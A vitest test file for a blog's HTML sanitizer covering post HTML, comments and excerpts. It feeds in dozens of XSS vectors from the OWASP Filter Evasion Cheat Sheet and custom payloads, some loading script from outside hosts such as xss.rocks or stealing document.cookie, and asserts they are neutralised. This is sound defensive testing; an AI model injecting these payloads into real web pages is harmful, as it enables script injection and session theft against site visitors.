import { describe, expect, it } from "vitest";
import { commentTextToHtml, excerptFromHtml, htmlToText, sanitizePostHtml } from "./sanitize";

// Vectors from the OWASP XSS Filter Evasion Cheat Sheet.
const OWASP_VECTORS = [
  `<SCRIPT SRC=https://cdn.jsdelivr.net/gh/Moksh45/host-xss.rocks/index.js></SCRIPT>`,
  `<IMG SRC="javascript:alert('XSS');">`,
  `<IMG SRC=javascript:alert('XSS')>`,
  `<IMG SRC=JaVaScRiPt:alert('XSS')>`,
  "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
  `<a onmouseover="alert(document.cookie)">xxs link</a>`,
  `<IMG """><SCRIPT>alert("XSS")</SCRIPT>">`,
  `<IMG SRC=# onmouseover="alert('xxs')">`,
  `<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>`,
  `<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">`,
  `<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>`,
  `<IMG SRC="jav	ascript:alert('XSS');">`,
  `<IMG SRC="jav&#x09;ascript:alert('XSS');">`,
  `<IMG SRC=" &#14;  javascript:alert('XSS');">`,
  `<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>`,
  `<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^\`=alert("XSS")>`,
  `<<SCRIPT>alert("XSS");//\\<</SCRIPT>`,
  `<IMG SRC="\`<javascript:alert>\`('XSS')"`,
  `<iframe src=http://xss.rocks/scriptlet.html <`,
  `<svg/onload=alert('XSS')>`,
  `<STYLE>li {list-style-image: url("javascript:alert('XSS')");}</STYLE><UL><LI>XSS</br>`,
  `<IMG DYNSRC="javascript:alert('XSS')">`,
  `<BGSOUND SRC="javascript:alert('XSS');">`,
  `<LINK REL="stylesheet" HREF="javascript:alert('XSS');">`,
  `<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert('XSS');">`,
  `<TABLE BACKGROUND="javascript:alert('XSS')">`,
  `<DIV STYLE="background-image: url(javascript:alert('XSS'))">`,
  `<DIV STYLE="width: expression(alert('XSS'));">`,
  `<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>`,
  `<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==" type="image/svg+xml" AllowScriptAccess="always"></EMBED>`,
  `<a href="javascript:alert(1)">click</a>`,
  `<a href="  JaVaScRiPt:alert(1)">click</a>`,
  `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>`,
  `<a href="vbscript:msgbox(1)">click</a>`,
  `<form action="javascript:alert(1)"><button>go</button></form>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
];

/**
 * What must never survive into a page: script, event handlers, script URLs, active embeds.
 * Only real tags are inspected: markup shown as text (escaped) is harmless.
 */
function assertInert(html: string) {
  for (const tag of html.match(/<[^>]*>?/g) ?? []) {
    expect(tag).not.toMatch(/^<\/?(script|object|embed|svg|math|style|link|meta|form|base|bgsound)\b/i);
    if (/^<iframe\b/i.test(tag)) expect(tag).toMatch(/^<iframe src="https:\/\/(www\.youtube-nocookie\.com|player\.vimeo\.com)\//);
    expect(tag).not.toMatch(/\son[a-z]+\s*=/i);
    expect(tag).not.toMatch(/(href|src|action|background|dynsrc)\s*=\s*["']?\s*(javascript|vbscript|data:text)/i);
    expect(tag).not.toMatch(/style\s*=\s*"[^"]*(url|expression|\\|position|behavior)/i);
  }
}

describe("sanitizePostHtml", () => {
  it.each(OWASP_VECTORS)("neutralises %s", (vector) => {
    assertInert(sanitizePostHtml(vector));
  });

  it.each([
    `<p style="background:url(javascript:alert(1))">x</p>`,
    `<p style="color:red;background-image:url('https://evil.example/track.gif')">x</p>`,
    `<p style="width:expression(alert(1))">x</p>`,
    `<div style="position:fixed;top:0;left:0;width:100%;height:100%">overlay</div>`,
    `<p style="color:\\72\\65\\64">x</p>`,
    `<p style="x:1;}</style><script>alert(1)</script>">x</p>`,
    `<img src="a.jpg" style="behavior:url(x.htc)">`,
    `<iframe src="javascript:alert(1)"></iframe>`,
    `<iframe src="https://evil.example/embed/dQw4w9WgXcQ"></iframe>`,
    `<iframe src="https://www.youtube.com.evil.example/embed/dQw4w9WgXcQ"></iframe>`,
    `<iframe src="data:text/html,<script>alert(1)</script>"></iframe>`,
    `<iframe srcdoc="<script>alert(1)</script>" src="https://www.youtube.com/embed/dQw4w9WgXcQ"></iframe>`,
    `<iframe src="https://www.youtube.com/embed/dQw4w9WgXcQ" onload="alert(1)" sandbox="allow-top-navigation"></iframe>`,
  ])("neutralises styles and embeds: %s", (vector) => {
    const html = sanitizePostHtml(vector);
    assertInert(html);
    expect(html).not.toMatch(/srcdoc|allow-top-navigation|evil|javascript/);
  });

  it("keeps Blogger's separators, floated linked images and alignment", () => {
    const html = `<div class="separator" style="clear: both; text-align: center;"><a href="https://example.org/s1600/big.jpg" imageanchor="1" style="clear: left; float: left; margin-bottom: 1em; margin-right: 1em;"><img border="0" height="300" src="https://example.org/s400/small.jpg" width="400" /></a></div>`;
    expect(sanitizePostHtml(html)).toBe(
      `<div class="separator" style="clear: both; text-align: center;"><a href="https://example.org/s1600/big.jpg" style="clear: left; float: left; margin-bottom: 1em; margin-right: 1em;"><img height="300" src="https://example.org/s400/small.jpg" width="400" /></a></div>`,
    );
  });

  it("keeps tables and figures with captions", () => {
    const html = `<figure class="wp-block-table"><table><tr><th>År</th><th>Antal</th></tr><tr><td colspan="2" style="text-align: right;">12</td></tr></table><figcaption class="wp-element-caption">Antal</figcaption></figure>`;
    expect(sanitizePostHtml(html)).toBe(html);
  });

  it("turns video embeds into the privacy-first player form, whatever the pasted form", () => {
    const blogger = `<iframe allowfullscreen="" class="BLOG_video_class" height="266" src="//www.youtube.com/embed/dQw4w9WgXcQ?rel=0" width="320" youtube-src-id="dQw4w9WgXcQ"></iframe>`;
    expect(sanitizePostHtml(blogger)).toBe(
      `<iframe src="https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ" title="YouTube video" width="320" height="266" loading="lazy" referrerpolicy="strict-origin-when-cross-origin" allow="fullscreen; picture-in-picture; encrypted-media" allowfullscreen="" sandbox="allow-scripts allow-same-origin allow-presentation allow-popups"></iframe>`,
    );
    // Saving again changes nothing.
    expect(sanitizePostHtml(sanitizePostHtml(blogger))).toBe(sanitizePostHtml(blogger));
    expect(sanitizePostHtml(`<iframe src="https://evil.example/x">fallback</iframe><p>after</p>`)).toBe("<p>after</p>");
  });

  it("prefixes ids and names, and the links to them, once", () => {
    const html = `<p id="notes">x</p><a name="fn1"></a><a href="#notes">1</a><a href="#">top</a><img name="getElementById" src="a.jpg">`;
    const once = sanitizePostHtml(html);
    expect(once).toBe(`<p id="user-content-notes">x</p><a name="user-content-fn1"></a><a href="#user-content-notes">1</a><a href="#">top</a><img src="a.jpg" />`);
    expect(sanitizePostHtml(once)).toBe(once);
  });

  it("keeps author links followed: only the rels an author may set, only target _blank", () => {
    expect(sanitizePostHtml(`<a href="https://example.org" rel="nofollow opener" target="_top">x</a>`)).toBe(`<a href="https://example.org" rel="nofollow">x</a>`);
    expect(sanitizePostHtml(`<a href="https://example.org" target="_blank">x</a>`)).toBe(`<a href="https://example.org" target="_blank">x</a>`);
  });

  it("keeps what authors write: lists, bold headings, links, images", () => {
    const html = `<ol><li><b>Risks</b><br>Text</li></ol><p><a href="https://example.org/">länk</a></p><img src="https://example.org/a.jpg" alt="A">`;
    expect(sanitizePostHtml(html)).toBe(
      `<ol><li><b>Risks</b><br />Text</li></ol><p><a href="https://example.org/">länk</a></p><img src="https://example.org/a.jpg" alt="A" />`,
    );
  });
});

describe("commentTextToHtml", () => {
  it.each(OWASP_VECTORS)("neutralises %s", (vector) => {
    assertInert(commentTextToHtml(vector));
  });

  it("keeps <b>, <i> and links, marks links nofollow ugc noopener", () => {
    expect(commentTextToHtml(`<b>Ja</b> <i>visst</i> <a href="https://example.org">där</a>`)).toBe(
      `<b>Ja</b> <i>visst</i> <a href="https://example.org" rel="nofollow ugc noopener">där</a>`,
    );
  });

  it("overrides a commenter's own rel", () => {
    expect(commentTextToHtml(`<a href="https://example.org" rel="me">x</a>`)).toContain(`rel="nofollow ugc noopener"`);
  });

  it("shows other markup as text and keeps line breaks", () => {
    expect(commentTextToHtml("<h1>Rubrik</h1>\nrad två")).toBe("&lt;h1&gt;Rubrik&lt;/h1&gt;<br />rad två");
    expect(commentTextToHtml("1 < 2 & 3 > 2")).toBe("1 &lt; 2 &amp; 3 &gt; 2");
  });
});

describe("excerpts", () => {
  it("turns HTML into collapsed text", () => {
    expect(htmlToText("<p>Ett &amp; två</p><ol><li>tre</li><li>fyra</li></ol>")).toBe("Ett & två tre fyra");
  });
  it("cuts at a word boundary", () => {
    expect(excerptFromHtml("<p>alpha beta gamma delta</p>", 12)).toBe("alpha beta…");
  });
});
